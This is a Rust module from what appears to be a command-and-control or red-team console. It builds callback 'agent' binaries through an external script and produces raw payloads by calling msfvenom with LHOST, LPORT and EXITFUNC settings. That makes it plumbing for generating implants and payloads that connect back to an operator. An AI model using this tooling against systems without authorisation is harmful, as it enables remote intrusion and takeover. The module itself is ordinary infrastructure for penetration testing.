//! Agent builds and third-party payloads
//!
//! The console only needs bytes or a file path back; how they are produced is
//! up to the implementation. The `Command*` types shell out to external tools.

use anyhow::{Context, Result};
use async_trait::async_trait;
use std::path::PathBuf;
use tokio::process::Command;

/// Parameters for a new agent binary
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AgentConfig {
    pub os: String,
    pub arch: String,
    pub lhost: String,
    pub lport: u16,
    pub debug: bool,
}

/// Parameters for a framework payload
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadRequest {
    pub payload: String,
    pub os: String,
    pub arch: String,
    pub lhost: String,
    pub lport: u16,
}

/// Builds agent binaries
#[cfg_attr(test, mockall::automock)]
#[async_trait]
pub trait AgentGenerator: Send + Sync {
    /// Build an agent and return the path of the binary
    async fn generate(&self, config: &AgentConfig) -> Result<PathBuf>;
}

/// Produces raw payload bytes
#[cfg_attr(test, mockall::automock)]
#[async_trait]
pub trait PayloadSource: Send + Sync {
    async fn payload(&self, request: &PayloadRequest) -> Result<Vec<u8>>;
}

/// Runs an external build script: `<program> <os> <arch> <lhost> <lport> [--debug]`.
///
/// The script prints the path of the built binary on its last line of output.
#[derive(Debug, Clone)]
pub struct CommandGenerator {
    program: PathBuf,
}

impl CommandGenerator {
    pub fn new(program: impl Into<PathBuf>) -> Self {
        Self {
            program: program.into(),
        }
    }
}

#[async_trait]
impl AgentGenerator for CommandGenerator {
    async fn generate(&self, config: &AgentConfig) -> Result<PathBuf> {
        let mut command = Command::new(&self.program);
        command
            .arg(&config.os)
            .arg(&config.arch)
            .arg(&config.lhost)
            .arg(config.lport.to_string());
        if config.debug {
            command.arg("--debug");
        }

        let output = command
            .output()
            .await
            .context(format!("Failed to execute {:?}", self.program))?;

        if !output.status.success() {
            let stderr = String::from_utf8_lossy(&output.stderr);
            anyhow::bail!("Agent build failed: {}", stderr.trim());
        }

        let stdout = String::from_utf8_lossy(&output.stdout);
        let path = stdout
            .lines()
            .rev()
            .map(str::trim)
            .find(|line| !line.is_empty())
            .context("Agent build printed no output path")?;

        Ok(PathBuf::from(path))
    }
}

/// Produces payloads with `msfvenom`
#[derive(Debug, Clone)]
pub struct MsfVenom {
    program: PathBuf,
}

impl MsfVenom {
    pub fn new(program: impl Into<PathBuf>) -> Self {
        Self {
            program: program.into(),
        }
    }

    fn arch(arch: &str) -> &str {
        match arch {
            "amd64" | "x86_64" => "x64",
            "386" | "i386" => "x86",
            other => other,
        }
    }

    fn platform(os: &str) -> &str {
        match os {
            "darwin" => "osx",
            other => other,
        }
    }

    fn args(request: &PayloadRequest) -> Vec<String> {
        let arch = Self::arch(&request.arch);
        vec![
            "--platform".to_string(),
            Self::platform(&request.os).to_string(),
            "--arch".to_string(),
            arch.to_string(),
            "--format".to_string(),
            "raw".to_string(),
            "--payload".to_string(),
            format!("{}/{}/{}", Self::platform(&request.os), arch, request.payload),
            format!("LHOST={}", request.lhost),
            format!("LPORT={}", request.lport),
            "EXITFUNC=thread".to_string(),
        ]
    }
}

impl Default for MsfVenom {
    fn default() -> Self {
        Self::new("msfvenom")
    }
}

#[async_trait]
impl PayloadSource for MsfVenom {
    async fn payload(&self, request: &PayloadRequest) -> Result<Vec<u8>> {
        let output = Command::new(&self.program)
            .args(Self::args(request))
            .output()
            .await
            .context(format!("Failed to execute {:?}", self.program))?;

        if !output.status.success() {
            let stderr = String::from_utf8_lossy(&output.stderr);
            anyhow::bail!("msfvenom failed: {}", stderr.trim());
        }
        if output.stdout.is_empty() {
            anyhow::bail!("msfvenom produced an empty payload");
        }

        Ok(output.stdout)
    }
}
